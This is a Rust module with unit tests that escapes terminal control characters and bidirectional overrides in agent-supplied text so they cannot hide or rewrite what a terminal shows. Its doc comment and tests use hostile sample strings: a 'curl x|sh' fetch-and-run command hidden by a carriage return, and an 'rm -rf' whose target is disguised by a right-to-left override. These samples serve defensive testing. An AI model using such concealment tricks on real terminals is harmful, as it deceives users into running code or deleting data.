//! Text that ao did not write (an agent's titles, questions, messages, tool output, file names),
//! made safe to show on a terminal.
//!
//! An agent controls that text, and a terminal obeys what it holds: `curl x|sh\rls -la` shows as
//! `ls -la` (the carriage return goes back to the start of the line), an escape sequence can
//! clear or rewrite the screen, and a right-to-left override (U+202E) shows the characters after
//! it reversed. So every character that steers the terminal instead of showing itself is written
//! as a visible escape: `\r`, `\x1b`, `\u{202e}`. They are the control characters (C0, DEL and
//! C1), the bidirectional overrides, embeddings, isolates and marks (U+202A–U+202E,
//! U+2066–U+2069, U+200E, U+200F, U+061C), and the line and paragraph separators (U+2028,
//! U+2029). A backslash stays as it is: text that looks like an escape hides nothing.
//!
//! JSON output (`--json`) is not passed through here: it is for programs, which get the text
//! exactly (serde already escapes control characters in JSON strings).

use std::borrow::Cow;
use std::fmt::Write;

/// `s` with every character that would steer a terminal written as a visible escape; line ends
/// (`\n`, `\r\n`) and tabs stay, for text laid out over several lines (a message, a tool's
/// output).
pub fn visible(s: &str) -> Cow<'_, str> {
    escape(s, true)
}

/// `s` for one line (a table cell, a title): as [`visible`], and line ends and tabs are escaped
/// too, so that nothing after them is hidden below the line or pushed out of its column.
pub fn visible_line(s: &str) -> Cow<'_, str> {
    escape(s, false)
}

/// Whether `c` steers the terminal (or the order it shows text in) instead of showing itself.
fn steers(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}'
                | '\u{200e}'
                | '\u{200f}'
                | '\u{061c}'
                | '\u{2028}'
                | '\u{2029}'
        )
}

fn escape(s: &str, keep_lines: bool) -> Cow<'_, str> {
    if !s.chars().any(steers) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' | '\t' if keep_lines => out.push(c),
            // A CRLF line end is a line end, not a return to the line's start.
            '\r' if keep_lines && chars.peek() == Some(&'\n') => {}
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if steers(c) && u32::from(c) < 0x80 => {
                let _ = write!(out, "\\x{:02x}", u32::from(c));
            }
            c if steers(c) => {
                let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_steers_a_terminal_shows_as_an_escape() {
        assert_eq!(visible_line("curl x|sh\rls -la"), "curl x|sh\\rls -la");
        assert_eq!(visible("curl x|sh\rls -la"), "curl x|sh\\rls -la");
        assert_eq!(visible("\x1b[2J\x07\x7f"), "\\x1b[2J\\x07\\x7f");
        assert_eq!(visible("a\u{9b}31mb"), "a\\u{9b}31mb");
        assert_eq!(visible("rm -rf \u{202e}fdp.txt"), "rm -rf \\u{202e}fdp.txt");
        for c in [
            '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{2066}', '\u{2067}', '\u{2068}',
            '\u{2069}', '\u{200e}', '\u{200f}', '\u{061c}', '\u{2028}', '\u{2029}', '\0',
        ] {
            let shown = visible(&format!("a{c}b")).into_owned();
            assert!(!shown.contains(c), "{c:?} stayed");
            assert!(shown.starts_with("a\\") && shown.ends_with('b'), "{shown}");
        }
    }

    #[test]
    fn line_ends_and_tabs_stay_where_the_layout_has_room_for_them() {
        assert_eq!(visible("one\r\ntwo\n\tthree"), "one\ntwo\n\tthree");
        assert_eq!(
            visible_line("one\r\ntwo\n\tthree"),
            "one\\r\\ntwo\\n\\tthree"
        );
    }

    #[test]
    fn ordinary_text_is_not_copied() {
        for s in ["ls -la", "日本語 עברית العربية é", "C:\\path\\n", ""] {
            assert!(matches!(visible(s), Cow::Borrowed(_)), "{s}");
            assert!(matches!(visible_line(s), Cow::Borrowed(_)), "{s}");
        }
    }
}
